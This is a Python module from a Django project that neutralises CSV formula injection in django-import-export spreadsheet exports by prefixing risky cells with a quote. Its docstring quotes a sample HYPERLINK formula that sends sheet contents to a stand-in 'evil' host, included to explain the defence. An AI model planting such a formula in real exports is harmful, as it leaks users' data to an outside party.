"""Spreadsheet exports that no spreadsheet can run as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (CSV injection, OWASP "CSV Injection"):
``=HYPERLINK("http://evil/?"&A1, "Clic")`` in a participant's name would leak the sheet when
a colleague opens the export. Every exported cell goes through :func:`formula_safe`, which
prefixes such text with a single quote: spreadsheets show it as typed, never evaluate it.
"""

from __future__ import annotations

from typing import Any

# What makes a spreadsheet read a cell as a formula (or as DDE, for the tab and CR forms).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: Any) -> Any:
    """``value`` unchanged unless it is text starting with a formula trigger, which comes
    back with a leading ``'``. Numbers, dates, ``None`` and safe text are returned as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """For a django-import-export ``Resource``: every exported cell, headers included, is
    passed through :func:`formula_safe`, whatever field or ``dehydrate_`` method made it."""

    def export_resource(self, instance, selected_fields=None, **kwargs):
        row = super().export_resource(instance, selected_fields=selected_fields, **kwargs)
        return [formula_safe(value) for value in row]

    def get_export_headers(self, selected_fields=None):
        headers = super().get_export_headers(selected_fields=selected_fields)
        return [formula_safe(header) for header in headers]
